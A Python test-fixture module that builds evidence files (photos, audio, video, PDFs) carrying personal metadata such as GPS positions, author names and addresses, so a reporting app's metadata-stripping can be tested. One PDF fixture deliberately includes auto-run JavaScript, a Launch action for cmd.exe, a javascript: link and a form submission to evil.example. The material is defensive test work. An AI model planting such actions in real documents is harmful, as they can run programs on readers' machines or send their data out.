"""Real evidence files carrying the metadata a phone, a scanner or an editor writes, for the
evidence tests; and a look inside what was stored. Media are made by ffmpeg (Debian's
package, installed by .ci/run), PDFs by pypdf, so the library that strips a PDF is not the
one that wrote it; the PDFs that carry files, scripts and comments by pikepdf, which can
write every part of a PDF as a hostile file would."""

import io
import json
import shutil
import struct
import subprocess
import tempfile
import zlib
from pathlib import Path

import pikepdf
import pypdf
import pytest
from django.core.files.storage import FileSystemStorage
from pikepdf import Name
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
)

from reporting.models import EvidenceFile

GPS_IFD = 0x8825
# What the files below carry and the stored copy must not.
SECRETS = (b"Amina", b"Acacia", b"52.4862", b"PhoneMaker", b"Khan")
LOCATION = "+52.4862-001.8904/"
CREATED = "2024-05-01T10:00:00Z"


def temporary_storage(tmp_path, monkeypatch) -> FileSystemStorage:
    """Store evidence in the test's own temporary directory (for an evidence_storage fixture)."""
    storage = FileSystemStorage(location=tmp_path / "evidence")
    monkeypatch.setattr(EvidenceFile._meta.get_field("file"), "storage", storage)
    return storage


def stored_files(storage) -> list[str]:
    root = storage.base_location
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def jpeg_with_gps() -> bytes:
    """A photo as a phone writes it: maker, model, position, and an orientation tag."""
    image = Image.new("RGB", (64, 48), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Model X"  # Model
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (52.0, 28.0, 48.0)
    gps[3] = "W"
    gps[4] = (1.0, 53.0, 24.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"taken at 12 Acacia Road")
    data = out.getvalue()
    # The fixture really has the metadata the test expects to disappear.
    with Image.open(io.BytesIO(data)) as check:
        assert check.getexif().get_ifd(GPS_IFD)[1] == "N"
    return data


# --- PDFs ------------------------------------------------------------------------------------

XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    b"<dc:creator><rdf:Seq><rdf:li>Amina Khan</rdf:li></rdf:Seq></dc:creator>"
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    b'<?xpacket end="w"?>'
)


def _xmp_stream(writer):
    stream = DecodedStreamObject()
    stream.set_data(XMP)
    stream[NameObject("/Type")] = NameObject("/Metadata")
    stream[NameObject("/Subtype")] = NameObject("/XML")
    return writer._add_object(stream)


def pdf_with_metadata(
    *, jpeg: bytes | None = None, filter_array: bool = False, password: str = ""
) -> bytes:
    """A one-page letter with an author, a title, dates, producer, XMP on the document and on
    the page, the text "Evidence letter" and, if given, a JPEG picture as it was sent; then
    edited once (an incremental update), so the first author is in an earlier revision."""
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(300, 200)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    resources = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    drawing = b"BT /F1 14 Tf 20 150 Td (Evidence letter) Tj ET"
    if jpeg is not None:
        with Image.open(io.BytesIO(jpeg)) as picture:
            width, height = picture.size
        image = DecodedStreamObject()
        image.set_data(jpeg)
        image.update(
            {
                NameObject("/Type"): NameObject("/XObject"),
                NameObject("/Subtype"): NameObject("/Image"),
                NameObject("/Width"): NumberObject(width),
                NameObject("/Height"): NumberObject(height),
                NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
                NameObject("/BitsPerComponent"): NumberObject(8),
                # Written alone or as a one-item array: scanners do both.
                NameObject("/Filter"): (
                    ArrayObject([NameObject("/DCTDecode")])
                    if filter_array
                    else NameObject("/DCTDecode")
                ),
            }
        )
        resources[NameObject("/XObject")] = DictionaryObject(
            {NameObject("/Im1"): writer._add_object(image)}
        )
        drawing += b" q 64 0 0 48 20 20 cm /Im1 Do Q"
    content = DecodedStreamObject()
    content.set_data(drawing)
    page[NameObject("/Contents")] = ArrayObject([writer._add_object(content)])
    page[NameObject("/Resources")] = resources
    page[NameObject("/Metadata")] = _xmp_stream(writer)
    writer._root_object[NameObject("/Metadata")] = _xmp_stream(writer)
    writer.add_metadata(
        {
            "/Author": "Amina Khan",
            "/Title": "Letter from the landlord to Amina",
            "/Producer": "PhoneMaker Scanner",
            "/CreationDate": "D:20240501100000Z",
        }
    )
    if password:
        writer.encrypt(user_password=password, owner_password=password)
    first = io.BytesIO()
    writer.write(first)
    if password:
        return first.getvalue()
    # An edit saved incrementally: the first revision (and its author) stays in the file.
    edited = pypdf.PdfWriter(io.BytesIO(first.getvalue()), incremental=True)
    edited.add_metadata({"/Author": "A. Khan"})
    out = io.BytesIO()
    edited.write(out)
    data = out.getvalue()
    assert data.count(b"Amina Khan") >= 2, "both revisions should name the author"
    reader = pypdf.PdfReader(io.BytesIO(data))
    assert reader.metadata.author == "A. Khan"
    assert reader.xmp_metadata is not None
    return data


# --- Audio and video -------------------------------------------------------------------------

TAGS = [
    *("-metadata", "title=Amina Khan at the bus stop"),
    *("-metadata", "artist=Amina Khan"),
    *("-metadata", "comment=12 Acacia Road"),
    *("-metadata", f"creation_time={CREATED}"),
    *("-metadata", f"location={LOCATION}"),
    *("-metadata:s:0", "handler_name=Amina's phone"),
]
PICTURE = ["-f", "lavfi", "-i", "testsrc=duration=1:size=64x48:rate=5"]
SOUND = ["-f", "lavfi", "-i", "sine=duration=1:frequency=440"]


def ffprobe(data: bytes) -> dict:
    """What ffprobe reads in a file: its format, streams, chapters and their tags."""
    with tempfile.TemporaryDirectory() as workdir:
        path = Path(workdir) / "probe"
        path.write_bytes(data)
        result = subprocess.run(  # noqa: S603 - the test's own arguments
            [
                shutil.which("ffprobe"),
                *("-v", "error", "-of", "json", "-show_format", "-show_streams"),
                *("-show_chapters", str(path)),
            ],
            capture_output=True,
            check=True,
            timeout=60,
        )
    return json.loads(result.stdout)


def mp4_boxes(data: bytes, start: int = 0, end: int | None = None, path: str = ""):
    """(path, box type, payload) of every box in an MP4/MOV, walking the containers."""
    containers = {b"moov", b"trak", b"mdia", b"minf", b"stbl", b"udta", b"edts", b"dinf"}
    end = len(data) if end is None else end
    i = start
    while i + 8 <= end:
        size, kind = struct.unpack(">I4s", data[i : i + 8])
        header = 8
        if size == 1:
            size = struct.unpack(">Q", data[i + 8 : i + 16])[0]
            header = 16
        elif size == 0:
            size = end - i
        payload = data[i + header : i + size]
        yield f"{path}/{kind.decode('latin-1')}", kind, payload
        if kind in containers:
            yield from mp4_boxes(data, i + header, i + size, f"{path}/{kind.decode('latin-1')}")
        i += size


def with_xyz_location(data: bytes) -> bytes:
    """Add the location atom an Android phone writes (moov/udta/©xyz, ISO 6709 text) to an MP4
    whose moov is its last box."""
    boxes = list(mp4_boxes(data))
    top = [(path, kind) for path, kind, _ in boxes if path.count("/") == 1]
    assert top[-1][1] == b"moov", "moov must be last, so no chunk offset moves"
    moov_at = len(data) - len(next(p for path, k, p in boxes if path == "/moov")) - 8
    text = LOCATION.encode()
    xyz = struct.pack(">I4sHH", 12 + len(text), b"\xa9xyz", len(text), 0x15C7) + text
    udta = struct.pack(">I4s", 8 + len(xyz), b"udta") + xyz
    moov = data[moov_at:] + udta
    return data[:moov_at] + struct.pack(">I", len(moov)) + moov[4:]


def make(extension: str, *args: str) -> bytes:
    """Run ffmpeg to make a fixture file (through a file: the MP4 and MOV muxers seek)."""
    binary = shutil.which("ffmpeg")
    if not binary:
        pytest.skip("needs ffmpeg: apt-get install ffmpeg (make test installs it)")
    with tempfile.TemporaryDirectory() as workdir:
        target = Path(workdir) / f"fixture.{extension}"
        subprocess.run(  # noqa: S603 - the test's own arguments
            [binary, "-nostdin", "-hide_banner", "-loglevel", "error", *args, str(target)],
            check=True,
            timeout=60,
        )
        return target.read_bytes()


def mp4_video() -> bytes:
    """An Android-style MP4: H.264 and AAC, a title, a creation time, a 3GPP location (loci)
    and the ©xyz location atom."""
    data = make("mp4", *PICTURE, *SOUND, "-c:v", "libx264", "-c:a", "aac", *TAGS)
    return with_xyz_location(data)


def mov_video() -> bytes:
    """An iPhone-style MOV: the location, maker and date under Apple's keys, and ©xyz."""
    data = make(
        "mov", *PICTURE, *SOUND, "-c:v", "libx264", "-c:a", "aac", *TAGS,
        "-movflags", "use_metadata_tags",
        "-metadata", "com.apple.quicktime.location.ISO6709=+52.4862-001.8904+100.000/",
        "-metadata", "com.apple.quicktime.make=PhoneMaker",
        "-metadata", "com.apple.quicktime.creationdate=2024-05-01T10:00:00+0100",
    )  # fmt: skip
    return with_xyz_location(data)


def mp3_with_id3(workdir: Path) -> bytes:
    """ID3v2 tags (title, artist, comment, date) and a cover picture carrying GPS EXIF."""
    cover = workdir / "cover.jpg"
    cover.write_bytes(jpeg_with_gps())
    return make(
        "mp3", *SOUND, "-i", str(cover), "-map", "0", "-map", "1", "-c:a", "libmp3lame",
        "-c:v", "copy", "-disposition:v", "attached_pic", "-id3v2_version", "3", *TAGS,
    )  # fmt: skip


def m4a_audio() -> bytes:
    return make("m4a", *SOUND, "-c:a", "aac", *TAGS)


def ogg_audio() -> bytes:
    return make("ogg", *SOUND, "-c:a", "libvorbis", *TAGS)


def wav_audio() -> bytes:
    return make("wav", *SOUND, *TAGS)


def webm_video() -> bytes:
    return make("webm", *PICTURE, *SOUND, "-c:v", "libvpx", "-c:a", "libopus", *TAGS)


# --- PDFs that carry files, scripts, comments and metadata (made by pikepdf) -----------------

# The red square every letter below draws, and where to look for it on a page drawn at 72 dpi.
RED_SQUARE = b" q 1 0 0 rg 200 20 80 80 re f Q"
RED_AT = (240, 140)


def _letter(pdf: pikepdf.Pdf | None = None) -> pikepdf.Pdf:
    """A one-page letter: the words "Evidence letter" and a red square."""
    pdf = pdf or pikepdf.new()
    pdf.add_blank_page(page_size=(300, 200))
    page = pdf.pages[0]
    font = pikepdf.Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=pdf.make_indirect(font)))
    page.Contents = pdf.make_stream(b"BT /F1 14 Tf 20 150 Td (Evidence letter) Tj ET" + RED_SQUARE)
    return pdf


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    # Uncompressed, so that a fixture's secrets can be seen in its bytes.
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, **options)
    return out.getvalue()


def _xmp(pdf: pikepdf.Pdf) -> pikepdf.Stream:
    return pdf.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML)


def _attached(pdf: pikepdf.Pdf, data: bytes, name: str) -> pikepdf.Dictionary:
    """A file specification with the file inside it."""
    stream = pdf.make_stream(data, Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        pikepdf.Dictionary(
            Type=Name.Filespec,
            F=pikepdf.String(name),
            UF=pikepdf.String(name),
            EF=pikepdf.Dictionary(F=stream),
        )
    )


def _annotate(pdf: pikepdf.Pdf, *annotations: pikepdf.Dictionary) -> list:
    made = [pdf.make_indirect(annotation) for annotation in annotations]
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array(made))
    return made


def pdf_with_attached_photo() -> bytes:
    """A letter carrying a phone's photo (with its GPS position) in the document's embedded
    files, as an associated file, and in a paperclip comment on the page."""
    pdf = _letter()
    photo = jpeg_with_gps()
    document_file = _attached(pdf, photo, "Amina Khan at home.jpg")
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["photo.jpg", document_file]))
    )
    pdf.Root.AF = pikepdf.Array([document_file])
    _annotate(
        pdf,
        pikepdf.Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=[20, 20, 40, 40],
            FS=_attached(pdf, photo, "IMG_2041.jpg"),
            T=pikepdf.String("Amina Khan"),
            Contents=pikepdf.String("the photo"),
        ),
    )
    return _saved(pdf)


def pdf_with_filtered_jpeg(filters=("/FlateDecode", "/DCTDecode")) -> bytes:
    """A letter with a phone's photo as a picture whose JPEG (GPS and all) sits under other
    filters, which a cleaner looking only for /DCTDecode alone would miss."""
    pdf = _letter()
    data = jpeg_with_gps()
    encoders = {
        "/FlateDecode": zlib.compress,
        "/ASCIIHexDecode": lambda raw: raw.hex().encode() + b">",
    }
    for name in reversed(filters[:-1]):
        data = encoders[name](data)
    picture = pikepdf.Stream(pdf, data)
    picture.write(data, filter=pikepdf.Array([Name(f) for f in filters]))
    picture.Type, picture.Subtype = Name.XObject, Name.Image
    picture.Width, picture.Height = 64, 48
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
    page = pdf.pages[0]
    page.Resources.XObject = pikepdf.Dictionary(Im1=picture)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" q 64 0 0 48 20 20 cm /Im1 Do Q")
    return _saved(pdf)


def pdf_with_comments() -> bytes:
    """A letter with a sticky-note comment, its pop-up and a reply, each naming its author
    and carrying dates and the application's own identifiers."""
    pdf = _letter()
    who = {
        "T": pikepdf.String("Amina Khan"),
        "M": pikepdf.String("D:20240501100000Z"),
        "CreationDate": pikepdf.String("D:20240501095900Z"),
        "NM": pikepdf.String("PhoneMaker-annotation-7f3a"),
    }
    note, popup, reply = _annotate(
        pdf,
        pikepdf.Dictionary(
            Type=Name.Annot,
            Subtype=Name.Text,
            Rect=[20, 100, 40, 120],
            Contents=pikepdf.String("He shouted at me outside the shop"),
            **who,
        ),
        pikepdf.Dictionary(Type=Name.Annot, Subtype=Name.Popup, Rect=[50, 100, 150, 150], **who),
        pikepdf.Dictionary(
            Type=Name.Annot,
            Subtype=Name.Text,
            Rect=[20, 60, 40, 80],
            Contents=pikepdf.String("And again the next day"),
            **who,
        ),
    )
    note.Popup, popup.Parent, reply.IRT = popup, note, note
    return _saved(pdf)


def _javascript(pdf, script: str) -> pikepdf.Dictionary:
    return pdf.make_indirect(
        pikepdf.Dictionary(Type=Name.Action, S=Name.JavaScript, JS=pikepdf.String(script))
    )


WEB_LINK = "https://example.org/posts/1234"


def pdf_with_scripts_and_actions() -> bytes:
    """A letter that runs a script on opening, on closing and on showing its page, keeps
    scripts by name, and has links that launch a program, run a script, open another file,
    submit or import form data; one web link (which leads on to a script) and one jump to the
    page; and a form whose field runs a script as it is typed in."""
    pdf = _letter()
    root, page = pdf.Root, pdf.pages[0]
    root.OpenAction = _javascript(pdf, "app.alert('opened')")
    root.AA = pikepdf.Dictionary(WC=_javascript(pdf, "app.alert('closing')"))
    root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array(["init", _javascript(pdf, "app.alert('named')")])
        )
    )
    page.AA = pikepdf.Dictionary(O=_javascript(pdf, "app.alert('page')"))

    def link(y, action):
        return pikepdf.Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[20, y, 60, y + 10], A=action
        )

    actions = [
        pikepdf.Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe")),
        pikepdf.Dictionary(S=Name.URI, URI=pikepdf.String("javascript:app.alert('uri')")),
        pikepdf.Dictionary(S=Name.GoToR, F=pikepdf.String("other.pdf"), D=pikepdf.Array([0])),
        pikepdf.Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/take")),
        pikepdf.Dictionary(S=Name.ImportData, F=pikepdf.String("data.fdf")),
        pikepdf.Dictionary(
            S=Name.URI, URI=pikepdf.String(WEB_LINK), Next=_javascript(pdf, "app.alert('next')")
        ),
        pikepdf.Dictionary(S=Name.GoTo, D=pikepdf.Array([page.obj, Name.Fit])),
    ]
    links = [link(10 + 12 * i, action) for i, action in enumerate(actions)]
    field = pikepdf.Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=pikepdf.String("reporter_name"),
        V=pikepdf.String("Filled in value"),
        DA=pikepdf.String("/Helv 10 Tf 0 g"),
        Rect=[150, 120, 290, 140],
        AA=pikepdf.Dictionary(K=_javascript(pdf, "app.alert('typed')")),
    )
    *_, widget = _annotate(pdf, *links, field)
    helvetica = pikepdf.Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([widget]),
        NeedAppearances=True,
        DA=pikepdf.String("/Helv 10 Tf 0 g"),
        DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helvetica)),
    )
    return _saved(pdf)


def pdf_with_metadata_everywhere() -> bytes:
    """XMP on the catalogue, the pages, the page, its font, a picture, a form and a comment;
    an application's private data and dates on the page; document information; and an /ID
    made by the phone that wrote it."""
    pdf = _letter()
    page = pdf.pages[0]
    picture = pdf.make_stream(b"\xff\x00\x00" * 4, Width=2, Height=2, BitsPerComponent=8)
    picture.Type, picture.Subtype, picture.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
    form = pdf.make_stream(b"0 0 1 rg 0 0 10 10 re f", BBox=[0, 0, 10, 10])
    form.Type, form.Subtype = Name.XObject, Name.Form
    page.Resources.XObject = pikepdf.Dictionary(Im1=picture, Fm1=form)
    page.Contents = pdf.make_stream(
        page.Contents.read_bytes() + b" q 20 0 0 20 20 20 cm /Im1 Do Q q 1 0 0 1 60 20 cm /Fm1 Do Q"
    )
    (note,) = _annotate(
        pdf,
        pikepdf.Dictionary(
            Type=Name.Annot, Subtype=Name.Square, Rect=[100, 20, 140, 60], C=[0, 0, 1]
        ),
    )
    for obj in (pdf.Root, pdf.Root.Pages, page.obj, page.Resources.Font.F1, picture, form, note):
        obj.Metadata = _xmp(pdf)
    page.PieceInfo = pikepdf.Dictionary(
        PhoneMaker=pikepdf.Dictionary(
            LastModified=pikepdf.String("D:20240501100000Z"),
            Private=pikepdf.String("Amina Khan's phone"),
        )
    )
    page.LastModified = pikepdf.String("D:20240501100000Z")
    with pdf.open_metadata(set_pikepdf_as_editor=False, update_docinfo=False):
        pass
    pdf.docinfo = pdf.make_indirect(
        pikepdf.Dictionary(
            Author=pikepdf.String("Amina Khan"),
            Producer=pikepdf.String("PhoneMaker Scanner"),
            CreationDate=pikepdf.String("D:20240501100000Z"),
        )
    )
    pdf.trailer.ID = pikepdf.Array([pikepdf.String(PHONE_ID), pikepdf.String(PHONE_ID)])
    return _saved(pdf, deterministic_id=False)


PHONE_ID = b"PhoneMaker-ID-52"


def jpx_with_metadata() -> bytes:
    """A JPEG 2000 picture with XMP (a UUID box), an XML box holding a GPS position, and a
    comment in its codestream naming a street."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG2000")
    data = out.getvalue()
    at = data.index(b"jp2c") - 4
    xmp_box = struct.pack(">I4s", 8 + 16 + len(XMP), b"uuid") + b"\xbez\xcf\xcb" * 4 + XMP
    gps = b"<gml:pos>52.4862 -1.8904</gml:pos>"
    xml_box = struct.pack(">I4s", 8 + len(gps), b"xml ") + gps
    codestream_at = at + 8
    # A comment segment straight after the codestream's SIZ segment.
    (siz_length,) = struct.unpack(">H", data[codestream_at + 4 : codestream_at + 6])
    siz_end = codestream_at + 4 + siz_length
    comment = b"\x00\x01taken at 12 Acacia Road"
    com = b"\xff\x64" + struct.pack(">H", 2 + len(comment)) + comment
    jp2c_length = struct.unpack(">I", data[at : at + 4])[0]
    codestream = data[codestream_at:siz_end] + com + data[siz_end : at + jp2c_length]
    jp2c = struct.pack(">I4s", 8 + len(codestream), b"jp2c") + codestream
    made = data[:at] + xmp_box + xml_box + jp2c + data[at + jp2c_length :]
    with Image.open(io.BytesIO(made)) as check:
        check.load()
    return made


def pdf_with_jpx_picture() -> bytes:
    pdf = _letter()
    picture = pdf.make_stream(b"", Width=64, Height=48)
    picture.write(jpx_with_metadata(), filter=Name.JPXDecode)
    picture.Type, picture.Subtype = Name.XObject, Name.Image
    page = pdf.pages[0]
    page.Resources.XObject = pikepdf.Dictionary(Im1=picture)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" q 64 0 0 48 20 20 cm /Im1 Do Q")
    return _saved(pdf)


# --- PDFs that can only be re-rendered -------------------------------------------------------


def pdf_with_rich_media() -> bytes:
    """A letter with a Flash-era rich media annotation (and its script)."""
    pdf = _letter()
    _annotate(
        pdf,
        pikepdf.Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=[20, 20, 120, 80],
            RichMediaContent=pikepdf.Dictionary(
                Assets=pikepdf.Dictionary(
                    Names=pikepdf.Array(["clip.swf", _attached(pdf, b"FWS Amina Khan", "clip.swf")])
                )
            ),
        ),
    )
    return _saved(pdf)


def pdf_with_xfa_form() -> bytes:
    """A letter that is really an XFA form (its XML describes the form; pdfium draws the page)."""
    pdf = _letter()
    xfa = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
        b"<field name='reporter'><value><text>Amina Khan</text></value></field>"
        b"</template></xdp:xdp>"
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
    return _saved(pdf)


def pdf_encrypted_without_password() -> bytes:
    """A letter encrypted with an owner password only: it opens without one."""
    pdf = _letter()
    pdf.docinfo = pdf.make_indirect(pikepdf.Dictionary(Author=pikepdf.String("Amina Khan")))
    return _saved(pdf, encryption=pikepdf.Encryption(owner="owner", user="", R=6))


def pdf_with_jbig2_picture() -> bytes:
    """A picture coded in JBIG2, which has room for comments and which we do not decode."""
    pdf = _letter()
    picture = pdf.make_stream(b"", Width=8, Height=8)
    picture.write(b"\x00\x00\x00\x00\x30Amina Khan", filter=Name.JBIG2Decode)
    picture.Type, picture.Subtype = Name.XObject, Name.Image
    picture.ImageMask = True
    page = pdf.pages[0]
    page.Resources.XObject = pikepdf.Dictionary(Im1=picture)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" q 8 0 0 8 20 20 cm /Im1 Do Q")
    return _saved(pdf)


def pdf_with_inline_jpeg() -> bytes:
    """A JPEG (GPS and all) written inside the page's content stream."""
    pdf = _letter()
    page = pdf.pages[0]
    inline = b" q 64 0 0 48 20 20 cm BI /W 64 /H 48 /CS /RGB /BPC 8 /F /DCT ID "
    inline += jpeg_with_gps() + b" EI Q"
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + inline)
    return _saved(pdf)


def pdf_with_postscript() -> bytes:
    """A PostScript XObject: a kind of stream the cleaning does not know."""
    pdf = _letter()
    postscript = pdf.make_stream(b"%!PS (Amina Khan) show")
    postscript.Type, postscript.Subtype = Name.XObject, Name.PS
    pdf.pages[0].Resources.XObject = pikepdf.Dictionary(Ps1=postscript)
    return _saved(pdf)


def long_pdf_with_rich_media(pages: int) -> bytes:
    """Many pages, one of which has to be re-rendered."""
    pdf = pikepdf.open(io.BytesIO(pdf_with_rich_media()))
    for _ in range(pages - 1):
        pdf.pages.append(pdf.pages[0])
    return _saved(pdf)
